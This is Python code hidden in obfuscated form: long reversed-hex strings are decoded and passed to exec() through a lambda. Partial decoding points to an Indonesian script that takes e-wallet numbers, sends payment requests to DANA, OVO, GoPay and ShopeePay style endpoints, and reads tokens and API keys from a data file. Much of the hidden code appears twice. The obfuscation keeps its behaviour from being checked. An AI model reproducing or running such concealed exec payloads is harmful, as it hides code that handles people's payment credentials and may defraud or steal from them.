6d6f6e602e616b6b6573716d42282475707e69602d302275626d657e6f54756c6c61677020202020202020202020202a022f465f42202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322432202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a022951405f4742202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322332202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a022951405545405f484352202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322232202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09222e22716e656260276e616970276e616a6e616070296b696c696d656d602e61646027283037202e61676e656460296c616771696460227f6d6f6e602e616b6964737160502e24696c6166702b6164696470214e414440227f6d6f6e4228247e696270702020202020202020202020202020202a0a3331302e30292275626d657e6f54756c6c6167782e656c60227f602031302c30292275626d657e6f54756c6c6167782e656c60227f602928247967696463796e2275626d657e6f54756c6c616770247f6e60227f60292228303228286479677374727164737e2275626d657e6f54756c6c616770247f6e6026696020202020202020202020202a04716d627f66602275626d657e6025647164696c616650232020202020202020202020202a0922202a392938373635343332313830302a386f647e6f636820214e414440227f6d6f6e602e616b6b6573716d42282475707e69602d302275626d657e6f54756c6c61677020202020202020202020202a02214e414442202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322132202d3d302563696f686360266960202020202020202a0922202a3e6162716971626d65607025646f64756d6028696c696052282475707e69602d302563696f686360202020202020202a09222f465f402e243e6c5971605f67402e233e6c5971605565607f6863502e223e6c514e4144402e213228247e69627070202020202020202a09222a34756c6c61675d25402e6168696c69605228247e69627070202020202020202a0222202d302275626d657e6f54756c6c616770202020202020202a0222202d30246f6864756d6f547e656d69716070202020202020202a0a346f6864756d6f547e656d6971607f576e69637f6f686360256c696867702020202a05657274502d30246f6864756d6f547e656d6971607f576e69637f6f6863602020202a002020202a056e6f6e402e62757475627020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d616020202020202020202020202a0a39727470202020202020202a0a3222202d31202274737f547e657f6d61602669602020202a002020202a0563696270702d30247e696f547e657f6d61602020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e65602373756270702c25647962777275667f602f64702465656e60257f697026696025657c6166702275647e654e6c5e2d75636962707b70237960247e657f6d61602c61647f645226682475707e69602d302274737f547e657f6d61602020202a002020202a0d52207d616473756d6964722b516471646f53746f6864756d6f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b516471646f53746f6864756d6f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a09202020202a0c25646f636f5e6f6964707f6f5567616b6361607d3475676271647f547e656d69716070202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202a0c237e656b6f647d337e656b6f6470202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0823746f6864756d6f547e656d6971607f547567602d30216471646f53746f6864756d6f547e656d697160702020202a002020202a09222e2e2e23746f6864756d60247e656d69716070256c62616c6961667160276e6968636475664228247e696270702020202a0a392222202d30227473702a356d616e6f5d656479602c247e69602a3563696270702c227473702a3e6f6964716d6279666e6f636f5e656b6f64702c227473702a35646f636f5e6f6964707f6f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f59607168247e656d69716079647c657d6f577f6863702665646a0a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a0929247875647e20737562782374616f6c6e2e6f637a602c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0920333d34757f656d6964702c2929746f626823707d65746e2e6f637a6d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a09222e2e2e2473756571756270247e656d656c6474756370276e69646e65635228247e696270702020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0920202020202020202a046f6864756d6f547e656d6971607020202020202020202020202a0c247e656d6971607f5e656b6f647020202020202020202020202a0c2475676271647f547e656d6971607020202020202020202020202a0c2e6769637f5f647f53747020202020202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d702020202a092928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c246f6864756d6f547e656d697160702a32246f6864756d6f547e656d6971607220202020202020202a0c247e656d6971607f5e656b6f64702a322e656b6f647f5e6f696471636966696275667220202020202020202a0c2d5d70202020202020202a00302a32287164722020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d656479622020202020202020202020202a0c2563696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2475676271647f547e656d697160702a3225646f636f5d656479622020202020202020202020202a0b7b502a32237d6564796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d70202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c2222202a32256079747f547966656e6562622020202020202020202020202a0c20302a32287164722020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c2563696270702a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c2275626d657e6f54756c6c6167702a322275626d657e6f54756c6c61677220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c2d70202020202020202a0d7020202020202020202020202a00302a3225657c616672202020202020202020202020202020202a0c2222202a322560797472202020202020202020202020202020202a0c2222202a322c6562616c62202020202020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f647571622020202020202020202020202a0c2222202a3225646f636f5975726f6475716f546564716679647361622020202020202020202020202a0c25637c6166402a322975726f6475716f576e6963757f5379622020202020202020202020202a0b702a322975726f6475716220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c222547414b4341405f59555242202a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c2d70202020202020202a0d5b502a32237275626d656d622020202020202020202020202a0c2222202a322371696c616f547e656271607f5261627b61622020202020202020202020202a0c2d5b502a32237275626d656d6f5261627b61622020202020202020202020202a0b702a322261627b616220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0224756c6c6167756f247e656d69716079647c657d6d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a392a02214e414442202d30227473702a346f6864756d6f547e656d697160702020202a0c2222202d30227473702a356d616e6f5d656479602020202a0c227473702a3275626d657e6f54756c6c6167702020202a0c247e69602a347e696f547e657f6d61602020202a0c247e69602a3563696270702020202a0c227473702a3475676271647f547e656d697160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a347e656d6971607f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08247e656d69716079647c657d6f547e656d656c64747563702665646a0a0d656479447e656d6971605024727f607d6960247369646f556079747e207071602d6f62766a0a03746f6864756d6f547e656d6971607f5475676024727f607d696025637168636275707e247e65696c63602e207071602d6f62766a09747e657f626f55627574716e6769637f587f547567602c247e656d6971607f55627574716e6769637f587f547567602c207d616473756d69647f556b696c6f5166716a602c21647164687f5e67696374707972736e65602c21647164687f54707972736564602c246c6569666f546564707972736e656f546c696572602c29554b4f5940514024727f607d696024707972736e656e247e65696c636e207071602d6f62766a0a2024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a03747375657175627024727f607d696a056d69647024727f607d696a0a046965757024727f607d696a0e6f637a6024727f607d696a01647c6564656d6964702c256e6f6a756d6964702c256d6964756471646024727f607d6960256d696475647164602d6f62766" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "e6275747562702020202a09222e2e6162716971626d6560702e616b696163756c65697e656d602b65747e657021646e61402f465f402963716b696c607160216b6572602e616b68616c69635228247e69627070202020202020202a0a35637c65602020202a09222d7b6e696c607565646b7e6c5a34757b69627562602b6e696c6029657c616c656d602e6162716971626d6560702e616b696163756c6563702e616b68616c6963522668247e6962707020202020202020202020202a0a3b6e696c6075656460266960202020202020202a092222202c222b6e696c6075656462282475676e2d5221647164622b55637e6f607375627f547e656d656c64747563702d302b6e696c6075656460202020202020202a0a322f465f42202d3120246f6864756d6f547e656d697160702669602020202a002020202a0e627574756270202020202020202a09222d75637e6f607375627f547e656d656c647475637b702a327f627275422668247e69627070202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e25637e6f607375627f547e656d656c6474756370227f6025637e6f607375627f547e656d656c6474756370247f6e602669602020202a09222d79223d347e65646e69602c25637e6f607375627f547e656d656c647475637823707d65746e2e6f637a6b702a35637e6f6073756270247e656d656c64747563522668247e6962707023202020202a002020202a09202020202a0c246563757f547e657f6d6160202020202020202a0c25647962777275667f6f5b637160202020202020202a0c227f666f547e656d69716070202020202020202a0c246f6864756d6f547e656d69716070202020202020202a0c2275626d657e6f54756c6c616770202020202020202a0c237d65647960202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a0822367f547e656d69716079647c657d6f547e656d656c64747563702d3025637e6f607375627f547e656d656c64747563702020202a002020202a05657e69647e6f636020202020202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e6962707020202020202020202020202a0a35637c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a022951405545405f484352202d30246f6864756d6f547e656d6971607020202020202020202020202a0a3971607565607f68637f5564657c63687560247f6e60246e6160222432202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09222e22716e656260276e616970276e616a6e616070296b696c696d656d602e61646027283037202e61676e656460296c616771696460227f6d6f6e602e616b6964737160502e24696c6166702b61646964702f465f40227f6d6f6e4228247e696270702020202020202020202020202020202a0a3331302e30292275626d657e6f54756c6c6167782e656c60227f602031302c30292275626d657e6f54756c6c6167782e656c60227f602928247967696463796e2275626d657e6f54756c6c616770247f6e60227f60292228303228286479677374727164737e2275626d657e6f54756c6c616770247f6e6026696020202020202020202020202a04716d627f66602275626d657e6025647164696c616650232020202020202020202020202a0922202a392938373635343332313830302a386f647e6f6368202f465f40227f6d6f6e602e616b6b6573716d42282475707e69602d302275626d657e6f54756c6c61677020202020202020202020202a022f465f42202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322332202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a022951405f4742202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322232202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09222e22716e656260276e616970276e616a6e616070296b696c696d656d602e61646027283037202e61676e656460296c616771696460227f6d6f6e602e616b6964737160502e24696c6166702b6164696470214e414440227f6d6f6e4228247e696270702020202020202020202020202020202a0a3331302e30292275626d657e6f54756c6c6167782e656c60227f602031302c30292275626d657e6f54756c6c6167782e656c60227f602928247967696463796e2275626d657e6f54756c6c616770247f6e60227f60292228303228286479677374727164737e2275626d657e6f54756c6c616770247f6e6026696020202020202020202020202a04716d627f66602275626d657e6025647164696c616650232020202020202020202020202a0922202a392938373635343332313830302a386f647e6f636820214e414440227f6d6f6e602e616b6b6573716d42282475707e69602d302275626d657e6f54756c6c61677020202020202020202020202a02214e414442202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322132202d3d302563696f686360266960202020202020202a0922202a3e6162716971626d65607025646f64756d6028696c696052282475707e69602d302563696f686360202020202020202a0a09222971605565607f6863502e243228247e6962707020202020202020202020202a0a3971607565607f68637f5564657c63687560247f6e60266960202020202020202a09222f465f402e233e6c5971605f67402e223e6c514e4144402e213228247e69627070202020202020202a09222a34756c6c61675d25402e6168696c69605228247e69627070202020202020202a0222202d302275626d657e6f54756c6c616770202020202020202a0222202d30246f6864756d6f547e656d69716070202020202020202a0a346f6864756d6f547e656d6971607f576e69637f6f686360256c696867702020202a05657274502d30246f6864756d6f547e656d6971607f576e69637f6f6863602020202a0a0e627574756270202020202020202a09222d7b6e696c607565646b7e6c5a34757b69627562602b6e696c6029657c616c656d602e6162716971626d6560702e616b696163756c6563702e616b68616c6963522668247e6962707020202020202020202020202a0a3b6e696c6075656460266960202020202020202a092222202c222b6e696c6075656462282475676e2d5221647164622b55637e6f607375627f547e656d656c64747563702d302b6e696c6075656460202020202020202a00202020202020202a0e62757475627020202020202020202020202a09222d75637e6f607375627f547e656d656c647475637b702a327f627275422668247e6962707020202020202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e6962707020202020202020202020202a0a322353554343455352202d3120292223757471647372282475676e25637e6f607375627f547e656d656c6474756370227f6025637e6f607375627f547e656d656c6474756370247f6e60266960202020202020202a0920202020202020202a046563757f547e657f6d61602c25647962777275667f6f5b6371602c227f666f547e656d697160702c246f6864756d6f547e656d6971607f5563627f66602c2222202c237d656479602c237e656b6f64702c29756b6f5960716020202020202020202020202a0822367f547e656d69716079647c657d6f547e656d656c64747563702d3025637e6f607375627f547e656d656c6474756370202020202020202a0a346f6864756d6f547e656d6971607f5563627f66602669602020202a0a392a05637c6166402d302c6f6f62602a3971607565607f68637f5564657c636875602020202a0c256e6f6e402d30256e6f6e402c70227473702a346f6864756d6f547e656d6971607f5563627f66602020202a0c2222202d30227473702a346563757f547e657f6d61602020202a0c2c6f6f62602a35647962777275667f6f5b6371602020202a0c227f666f547e656d697160702020202a0c2d5d656479447e656d6971605b5473796c602a337d656479602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0822367f547e656d69716079647c657d6f577f6863702665646a0a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a09286471607d38647160702c2928647160702c247875647e20737562782374616f6c6e25636e6164737e69427563616274502c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0929746f62602c23727564616568602c2864716078247e656d656c647475637f54737f60702d3020737562702020202a09222e2e2e2473756571756270247e656d656c6474756370276e69646e65635228247e696270702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0920202020202020202a027f666f547e656d6971607020202020202020202020202a0c246f6864756d6f547e656d6971607020202020202020202020202a0c247e656d6971607f5e656b6f647020202020202020202020202a0c237475676271647f547e656d6971607020202020202020202020202a0c2e6769637f5f647f53747020202020202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d702020202a037d656479602a32237d6564796220202020202020202a0c25637c6166402a322975726f6475716f576e6963757f53796220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d70202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c2222202a32256079747f55636e616c6162622020202020202020202020202a0c25637c6166402a322d623d6f5261627b616f5379622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c2222202a32256079747f547966656e6562622020202020202020202020202a0c20302a32287164722020202020202020202020202a0c2222202a3224696f5e6f696373796d622020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2222202a3224696f50757f62776f5d623d6f5261627b61622020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c2d5225636962707f5d656479622b5d513d2b537d656479602a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a3224696f5e6f6964716369647e65686475716f546564707972736e656220202020202020202a0c2275626d657e6f54756c6c6167702a322275626d657e6f54756c6c61677220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2222202a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c2222202a322e656b6f647220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a322e656b6f647f547e656d6971607f546564707972736e656220202020202020202a0c2222202a3224696f5e6f6964716369647e65686475716220202020202020202a0c2222202a322e656b6f647f55676164737220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c25637c6166402a322c6c656370757f586479677220202020202020202a0c227f666f547e656d697160702a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c2222202a3225646f636f556571796e657f5c616272756665627220202020202020202a0c2222202a322371696c616f547e656271607f5261627b616220202020202020202a0c2d5b502a32237275626d656d6f5261627b616220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c20302a3224656e6961676f53747e696f607220202020202020202a0c292928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c246f6864756d6f547e656d697160702a32246f6864756d6f547e656d6971607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c2d70202020202020202a00302a3225657c6166722020202020202020202020202a0c2222202a3225607974722020202020202020202020202a0c2222202a322c6562616c622020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f6475716220202020202020202a0c2222202a32247e6962707275676e69666220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c2d5b502a32237275626d656d6220202020202020202a0c2222202a3224696f5f6d6f62707f54756c6c6167756220202020202020202a0c2222202a322e69607220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c2222202a3225646f636f5975726f6475716f5465647166796473616220202020202020202a0c247e656d6971607f5e656b6f64702a32247e656d6971607f5e656b6f647220202020202020202a0c2222202a322e656b6f647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a02247e656d69716079647c657d6d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a0d52207d616473756d6964722b5d5221647164622b5375627f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b5d5221647164622b5375627f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a056e6f6e402e627574756270202020202020202a09222d7375627f547e656d6971607b702a327f627275422668247e69627070202020202020202a09222e23746f6864756d60247e656d697160702863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b5375627f547e656d697160702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f547e656d697160702c286471607f547e656d697160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627f547e656d697160702020202a09222e2e2e23746f6864756d60247e656d69716070276e69647475674228247e696270702020202a002020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2d5225646f636f5d656479622b5d503b537d656479602a322475676271647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c6971607f547e656d697160702020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d30286471607f547e656d697160702020202a03746f6864756d60247e656d697160702475674023202020202a002020202a0925637c6166402c2d5225646f636f5d656479622b5d503b537d656479602c237e656b6f64702c29756b6f59607168256761607f547075636275647e69602020202a002020202a056e6f6e402e62757475627023202020202020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e696270702020202020202020202020202020202a0a327f62727545657c6166502470756368756020202020202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d61602020202020202020202020202020202a0a3972747020202020202020202020202a0a3222202d31202274737f547e657f6d6160266960202020202020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e6560237375627052282475707e69602d302274737f547e657f6d6160202020202020202a09222e25647962777275667f602f64702465656e60257f6970266960247e657f6d616027756e602275647e654e6c5e2d747e696f547e657f6d616b70237960247e657f6d61602c61647f64522668247e69627070202020202020202a0a35647962777275667f6f5b6371602669602020202a05647962777275667f4023202020202a002020202a0d5225636962707f5d656479622b5d513d2b537d656479602d30247e696f547e657f6d61602020202a00202020202020202a0d5225646f636f5d656479622b5d656479602d3b20237475676271647f547e656d69716070202020202020202a022b32202d3b20237475676271647f547e656d6971607020202020202020202020202a0a3222202d3120237475676271647f547e656d69716070266960202020202020202a0a337d656479602e69602d65647960227f66602020202a0222202d30237475676271647f547e656d697160702020202a0d522e6f6964716d6279666e6f636f5e656b6f64722b5d503b537d656479602d302e6f6964716d6279666e6f636f5e656b6f64702020202a0a392a0c2c6f6f62602a35647962777275667f6f5b6371602020202a0c227f666f547e656d697160702020202a0c246f6864756d6f547e656d697160702020202a0c227473702a3275626d657e6f54756c6c6167702020202a0c2d5d656479447e656d6971605b5473796c602a337d656479602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0827657265646f547e656d69716079647c657d6f547e656d656c64747563702665646a0a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a056e6f6e402e6275747562702020202020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275422668247e696270702020202020202020202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a056e6f6e402e627574756270202020202020202020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275402c616e696769627f422668247e69627070202020202020202020202020202020202020202a09222d756b702a3567616373756d60227f627275602d6f627660247e657f6d616024696c6166702563727160702f647024656c696166422668247e69627070202020202020202020202020202020202020202a0a356023716029227f6272754875646e69402c227f62727545657c61665820247075636875602020202020202020202020202020202a0920202020202020202020202020202020202020202a047e657f6d616f54696c61667d35647962777275667f6f547e657f6d616020202020202020202020202020202020202020202020202a0c246563757f547e657f6d616d346563757f547e657f6d616020202020202020202020202020202020202020202020202a0967616c6021697e6164702e61676e616a4023202c25637c61664d35647962777275667f6f5b63716020202020202020202020202020202020202020202020202a0c227f666f547e656d6971607020202020202020202020202020202020202020202020202a0c246f6864756d6f547e656d6971607020202020202020202020202020202020202020202020202a0c2275626d657e6f54756c6c61677020202020202020202020202020202020202020202020202a0c237d6564796020202020202020202020202020202020202020202020202a0c237e656b6f647020202020202020202020202020202020202020202020202a0c29756b6f5960716020202020202020202020202020202020202020202020202a0822367f547e656d69716079647c657d6f547e656d656c64747563702e627574756270202020202020202020202020202020202020202a05647962777275667f6f547e657f6d61602e61676e656460296e69602963776e657660296c61626d656b602c6967676e6160502320202020202020202020202020202020202020202a0a09222d747e657f6d616f54696c61667b702a347e657f6d61602864796770276e696972747562522668247e69627070202020202020202020202020202020202020202a092274737f547e657f6d616f54696c616678247e69602d30247e657f6d616f54696c616670202020202020202020202020202020202020202a0d513d2b5927202379672824796c60737e2d572567616373756d672b59746f626f546564707972736564602d302274737f547e657f6d616f54696c616670202020202020202020202020202020202020202a027f627275602e61637560702962716460247e657f6d616024696c6166702b616274737b65402320202020202020202020202020202020202020202a0a397274702020202020202020202020202020202a09222e2e2e227566727563702d6f627660247e657f6d616024696c6166702864796770276e696972747562502e247e657f6d616024696c61667e69602f64702565746024656c69616660247e656d656c64747563702c616964796e694228247e696270702020202020202020202020202020202a0a3d572567616373756d672b59746f626f546564707972736564602e69602724696c616670247f6e60237960247e657f6d6160247e656d6971605720246e616029746f626f546564707972736564602e6960272567616373756d672026696020202020202020202020202a0967616c6021626f63602e61646024696c6166702b6164696470247e657f6d6160227f6272756021646160216b696a602b656340232020202020202020202020202